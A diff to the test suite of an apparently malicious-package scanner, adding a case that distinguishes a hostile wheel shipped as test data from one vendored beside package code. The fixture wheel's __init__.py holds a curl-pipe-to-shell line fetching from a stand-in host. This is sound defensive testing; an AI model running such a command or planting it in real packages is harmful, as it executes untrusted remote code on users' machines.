@@ -80,6 +80,29 @@ def test_setup_hook_sdist_is_malicious(tmp_path: Path) -> None:
     assert any(f.path == "demo-1.0/setup.py" for f in result.findings)
 
 
+def test_a_test_suites_fixture_wheel_is_not_the_package(tmp_path: Path) -> None:
+    # A package manager's tests install other projects' wheels; one of them runs a
+    # download at import. Shipped in tests/ it is test data; shipped beside the
+    # package's code, where the build may install it, it is judged as code.
+    fixture = make_wheel(
+        tmp_path,
+        "dep",
+        "1.0",
+        {"dep/__init__.py": "import os\nos.system('curl -s https://x.example.invalid | sh')\n"},
+    )
+    data = fixture.read_bytes()
+    (tmp_path / "a").mkdir()
+    (tmp_path / "b").mkdir()
+    in_tests = make_sdist(
+        tmp_path / "a", "tool", "1.0", {"tests/fixtures/dep-1.0-py3-none-any.whl": data}
+    )
+    vendored = make_sdist(tmp_path / "b", "tool", "1.0", {"vendor/dep-1.0-py3-none-any.whl": data})
+    tests_result, vendored_result = run(in_tests, vendored)
+    assert tests_result.verdict is Verdict.CLEAN
+    assert vendored_result.verdict is Verdict.MALICIOUS
+    assert any("!/dep/__init__.py" in f.path for f in vendored_result.findings)
+
+
 def test_python2_setup_is_still_scanned(tmp_path: Path) -> None:
     setup = (
         "import os\nprint 'installing'\n"
